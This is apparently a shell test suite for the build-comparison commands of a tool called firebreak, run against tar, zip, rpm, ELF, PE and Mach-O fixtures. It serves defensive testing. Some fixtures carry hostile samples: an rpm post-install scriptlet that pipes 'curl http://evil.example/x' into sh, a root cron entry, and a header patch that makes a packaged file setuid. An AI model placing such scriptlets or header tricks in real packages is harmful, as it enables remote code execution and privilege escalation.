#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# firebreak rebuild compare: two builds agree but for signatures and when they were made.
. "$(dirname "$0")/../support/tap.sh"
. "$(dirname "$0")/../support/pe.sh"
lib=$TOP/tests/support/diff_lib.c
cd "$TMP" || exit 1
command -v jq >/dev/null || skip_all "jq is not installed"
command -v zip >/dev/null || skip_all "zip is not installed"

# vote EXIT NAME BUILD…
vote() {
	local want=$1 name=$2
	shift 2
	run "$want" "$name" "$FIREBREAK" rebuild compare --json "$@"
}
rules() {
	jq -r '.pairs[].differences[].rule' <<<"$out" | sort -u | tr '\n' ' '
}

mkdir -p a/d b/d
echo same >a/same
cp a/same b/same
echo x >a/d/x
cp a/d/x b/d/x
vote 0 "the same trees" a b
is "$(rules)" "" "no difference"
echo y >b/d/x
vote 1 "other content" a b
is "$(rules)" "content " "named"
is "$(jq -r '.pairs[0].differences[0]|"\(.offset) \(.length)"' <<<"$out")" "0 1" "with its place"
cp a/d/x b/d/x
echo more >b/d/more
vote 1 "a file that one does not have" a b
is "$(rules)" "extra " "named"
vote 1 "the other way round" b a
is "$(rules)" "missing " "named"
rm b/d/more
chmod 755 b/same
vote 1 "other rights" a b
is "$(rules)" "mode " "named"
chmod 644 b/same
if command -v python3 >/dev/null; then
	python3 - <<-'PY'
		import io, tarfile
		def make(name, uid=0, capability=None, mtime=1):
		    t = tarfile.open(name, 'w', format=tarfile.PAX_FORMAT)
		    i = tarfile.TarInfo('d/ping')
		    i.size, i.mode, i.uid, i.mtime = 5, 0o755, uid, mtime
		    if capability:
		        i.pax_headers = {'SCHILY.xattr.security.capability': capability}
		    t.addfile(i, io.BytesIO(b'hello'))
		    t.close()
		make('o.tar')
		make('time.tar', mtime=9)
		make('owner.tar', uid=1000)
		make('cap.tar', capability='\x01\x00')
		make('cap2.tar', capability='\x01\x02')
	PY
	vote 0 "tars of other times" o.tar time.tar
	vote 1 "another owner in a tar" o.tar owner.tar
	like "$(rules)" "owner" "named"
	vote 1 "a capability in a tar" o.tar cap.tar
	like "$(rules)" "attributes" "named"
	vote 1 "another one" cap.tar cap2.tar
	like "$(rules)" "attributes" "named"
	vote 0 "the same one" cap.tar cap.tar
	run 1 "and in diff" "$FIREBREAK" diff o.tar cap.tar
	like "$out" "new extended attributes" "says so"
	rm -f ./*.tar
else
	skip "owners and capabilities" "python3 is not installed"
fi
ln -s x a/l
ln -s y b/l
vote 1 "another link" a b
is "$(rules)" "link " "named"
rm a/l b/l
(cd a && zip -qr ../a.zip . && touch -d 2001-01-01 same && zip -qr0 ../b.zip d same)
vote 0 "archives with other times, order and compression" a.zip b.zip
is "$(rules)" "archive " "named"
vote 0 "an archive against itself" a.zip a.zip
is "$(rules)" "" "no difference"
run 3 "one build is none" "$FIREBREAK" rebuild compare a
run 5 "a build that is not there" "$FIREBREAK" rebuild compare a nowhere

# --- names that look like signatures, bytes that are in no file ---
mkdir -p sig-a/usr sig-b/etc/cron.d sig-b/usr/lib/_CodeSignature sig-b/META-INF
echo x >sig-a/usr/x
cp sig-a/usr/x sig-b/usr/x
echo 'root sh -c evil' >sig-b/etc/cron.d/x_gpgorigin
echo 'evil' >sig-b/usr/lib/_CodeSignature/evil.js
echo 'evil' >sig-b/META-INF/evil.SF
vote 1 "files that are only called like signatures" sig-a sig-b
is "$(jq '.pairs[0].findings' <<<"$out")" 7 "each of them, and their folders"
vote 1 "the other way round" sig-b sig-a
(cd sig-b && rm -r etc usr/lib && zip -qrD ../jar-b.zip . && rm -r META-INF && zip -qrD ../jar-a.zip .)
vote 0 "a jar, signed and not" jar-a.zip jar-b.zip
is "$(rules)" "archive signature " "named"
(printf '#!/bin/sh\necho good\n'; cat a.zip) >front-a.zip
(printf '#!/bin/sh\necho evil\n'; cat a.zip) >front-b.zip
vote 1 "another script in front of the same zip" front-a.zip front-b.zip
(printf '#!/bin/sh\necho good\n'; cat b.zip) >front-c.zip
vote 0 "the same script in front of two zips" front-a.zip front-c.zip
run 1 "diff sees it, too" "$FIREBREAK" diff --fail-on low front-a.zip front-b.zip
like "$out" "other bytes in front of the archive" "and says what"
if command -v cpio >/dev/null; then
	for i in a b; do
		mkdir hard-$i
		echo $i >hard-$i/x
		ln hard-$i/x hard-$i/y
		(cd hard-$i && printf 'x\ny\n' | cpio --quiet -o -H newc >../hard-$i.cpio)
	done
	vote 1 "a cpio whose last hard link brings the content" hard-a.cpio hard-b.cpio
	is "$(jq -r '.pairs[0].differences[]|select(.rule=="content").a' <<<"$out")" "hard-a.cpio!y" \
		"named"
fi

# --- rpm: what its header runs ---
# rpm NAME LINES…: a package with one file, and these lines in its spec.
rpm() {
	local name=$1
	shift
	printf '%s\n' 'Name: foo' 'Version: 1' 'Release: 1' 'Summary: x' 'License: x' 'BuildArch: noarch' \
		%description x "$@" >$name.spec
	rpmbuild -bb --quiet --define "_topdir $PWD/rpm" --define "_rpmfilename $name.rpm" $name.spec \
		>rpm.log 2>&1
	mv rpm/RPMS/$name.rpm .
}
if command -v rpmbuild >/dev/null; then
	body=('%install' 'mkdir -p %{buildroot}/opt; echo x >%{buildroot}/opt/x' %files)
	rpm plain "${body[@]}" /opt/x
	rpm again "${body[@]}" /opt/x
	rpm post '%post' 'curl http://evil.example/x | sh' "${body[@]}" /opt/x
	rpm owner "${body[@]}" '%attr(-,daemon,root) /opt/x'
	rpm empty '%post -p /sbin/ldconfig' '%files'
	vote 0 "two builds of an rpm" plain.rpm again.rpm
	vote 1 "an rpm with a script" plain.rpm post.rpm
	is "$(jq -r '.pairs[0].differences[]|select(.rule=="extra").b' <<<"$out")" \
		"post.rpm!!scripts/post" "named"
	vote 1 "an rpm whose file belongs to another" plain.rpm owner.rpm
	run 1 "diff of the rpm with a script" "$FIREBREAK" diff --json plain.rpm post.rpm
	is "$(jq -r '.findings[0]|"\(.code) \(.level)"' <<<"$out")" "script.maintainer.command high" \
		"the script comes first"
	run 2 "an rpm without files" "$FIREBREAK" inspect --json empty.rpm
	is "$(jq -r '.artifacts[0].components[1].path' <<<"$out")" "empty.rpm!!scripts/post" \
		"has its script, too"
	# rpm takes rights from the header, cpio from the payload
	python3 - plain.rpm mode.rpm <<-'PY'
		import sys, struct, hashlib
		b = bytearray(open(sys.argv[1], 'rb').read())
		def header(at):
		    n, size = struct.unpack('>II', b[at + 8:at + 16])
		    tags = [struct.unpack('>IIII', b[at + 16 + 16 * i:at + 32 + 16 * i]) for i in range(n)]
		    return at + 16 + 16 * n, at + 16 + 16 * n + size, {t[0]: t for t in tags}
		sig, end, s = header(96)
		at = (end + 7) // 8 * 8
		store, end, h = header(at)
		struct.pack_into('>H', b, store + h[1030][2], 0o104755)
		digest = hashlib.sha256(b[at:end]).hexdigest().encode()
		b[sig + s[273][2]:sig + s[273][2] + 64] = digest
		open(sys.argv[2], 'wb').write(b)
	PY
	run 1 "an rpm whose header makes a file setuid" "$FIREBREAK" inspect mode.rpm
	like "$out" "other rights" "is refused"
fi

# --- three and more ---
cp -r a c
echo evil >c/d/x
vote 1 "three builds, one of them odd" a b c
is "$(jq -c '[.odd, .majority]' <<<"$out")" '[["c"],true]' "which one"
vote 1 "the first is the odd one" c a b
is "$(jq -c .odd <<<"$out")" '["c"]' "which one"
run 1 "as text" "$FIREBREAK" rebuild compare a b c
like "$out" "^odd one out: c$" "says so"
cp -r a e
echo third >e/d/x
vote 1 "three that all differ" a c e
is "$(jq -c '[(.odd|length), .majority]' <<<"$out")" '[3,false]' "no majority"
vote 0 "three that agree" a b a

# --- ELF: build id ---
if command -v gcc >/dev/null; then
	echo 'int f(int x) { return x + 1; }' >f.c
	gcc -shared -fPIC -Wl,--build-id=0x1111111111111111 -o 1.so f.c
	gcc -shared -fPIC -Wl,--build-id=0x2222222222222222 -o 2.so f.c
	vote 0 "ELF files that differ in their build id" 1.so 2.so
	is "$(rules)" "build-id " "named"
	echo 'int f(int x) { return x + 2; }' >f.c
	gcc -shared -fPIC -Wl,--build-id=0x1111111111111111 -o 3.so f.c
	vote 1 "ELF files that differ in code" 1.so 3.so
	like "$(rules)" content "named"
else
	skip "ELF" "gcc is not installed"
fi

# --- PE: link time, checksum, signature ---
dll() { # OUT FLAGS…
	local o=$1
	shift
	clang-19 --target=x86_64-pc-windows-msvc -O1 -fno-builtin -ffreestanding -c "$lib" -o dll.o &&
		lld-link-19 /dll /entry:entry /nologo "/out:$o" "$@" dll.o k32.lib >/dev/null
}
if command -v clang-19 >/dev/null && command -v lld-link-19 >/dev/null; then
	printf 'LIBRARY KERNEL32.dll\nEXPORTS\nLoadLibraryW\nVirtualProtect\nGetModuleHandleW\n' >k32.def
	llvm-dlltool-19 -d k32.def -l k32.lib -m i386:x86-64
	mkdir t1 t2
	dll t1/x.dll /timestamp:1000000
	dll t2/x.dll /timestamp:2000000
	vote 0 "PE files that differ in their link time" t1 t2
	is "$(rules)" "time " "named"
	cp t1/x.dll 1.dll
	if command -v osslsigncode >/dev/null; then
		for s in A B; do
			openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c.pem -days 30 -subj /CN=$s \
				-addext extendedKeyUsage=codeSigning 2>/dev/null
			osslsigncode sign -certs c.pem -key k.pem -h sha256 -in 1.dll -out s$s.dll >/dev/null
		done
		vote 0 "a signed and an unsigned build" 1.dll sA.dll
		like "$(rules)" signature "named"
		vote 0 "builds signed by two" sA.dll sB.dll
		cp sB.dll bad.dll
		stuff bad.dll 4096
		vote 1 "what hides in a certificate table is no signature" sA.dll bad.dll
		like "$(rules)" structure "named"
		cp sA.dll flip.dll
		flip flip.dll 1030
		vote 1 "one bit of code" 1.dll flip.dll
		like "$(rules)" "content .*signature" "named"
	else
		skip "signed PE files" "osslsigncode is not installed"
	fi
else
	skip "PE files" "clang-19 or lld-link-19 is not installed"
fi

# --- Mach-O: UUID and code signature ---
if command -v ld64.lld-19 >/dev/null && command -v python3 >/dev/null; then
	clang-19 --target=arm64-apple-macos11 -O1 -ffreestanding -DREV=1 -c "$lib" -o m.o
	ld64.lld-19 -arch arm64 -platform_version macos 11.0 11.0 -dylib -undefined dynamic_lookup \
		-adhoc_codesign -install_name /x -o signed.dylib m.o
	is "$(python3 "$TOP/tests/support/diff_plant.py" unsign signed.dylib plain.dylib)" last \
		"a Mach-O file without its signature"
	vote 0 "a signed and an unsigned Mach-O library" signed.dylib plain.dylib
	is "$(rules)" "signature " "named"
	vote 0 "the other way round" plain.dylib signed.dylib
	cp plain.dylib bad.dylib
	printf x | dd of=bad.dylib bs=1 seek=900 conv=notrunc status=none
	vote 1 "a byte that no section has" signed.dylib bad.dylib
	like "$(rules)" content "named"
else
	skip "Mach-O files" "ld64.lld-19 is not installed"
fi
tap_done
